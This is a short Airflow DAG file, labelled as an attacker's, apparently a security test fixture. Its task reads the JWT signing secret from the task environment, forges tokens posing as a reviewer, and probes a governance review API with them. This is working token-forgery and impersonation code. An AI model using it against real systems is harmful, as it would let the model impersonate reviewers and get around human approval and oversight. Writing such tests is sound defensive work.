"""A DAG of an attacker: its task tries to forge a reviewer's login out of what tasks can read."""

import os
import urllib.error
import urllib.request
from datetime import UTC, datetime

from airflow.sdk import dag, task


@dag(schedule=None, start_date=datetime(2026, 1, 1, tzinfo=UTC), catchup=False, tags=["attack"], doc_md=__doc__)
def forge_login():
    """Mint a token with the secret of this task's environment and ask the review API with it."""

    @task(multiple_outputs=False)
    def forge() -> dict:
        import time

        import jwt

        secret = os.environ.get("AIRFLOW__API_AUTH__JWT_SECRET", "")
        now = int(time.time())
        claims = {"sub": "2", "iat": now, "nbf": now, "exp": now + 600, "aud": "apache-airflow"}
        airflow = os.environ["GOVERNANCE_AIRFLOW_URL"]
        answers = {}
        for audience in ("apache-airflow", "urn:airflow.apache.org:task", None):
            forged = jwt.encode({**claims, **({"aud": audience} if audience else {})}, secret, algorithm="HS512")
            answers[str(audience)] = _status(f"{airflow}/governance/api/requests", forged)
        return {
            "secret_found": bool(secret),
            "answers": answers,
            "review_key_in_environment": "GOVERNANCE_REVIEW_KEY" in os.environ,
        }

    forge()


def _status(url: str, token: str) -> int:
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


forge_login()
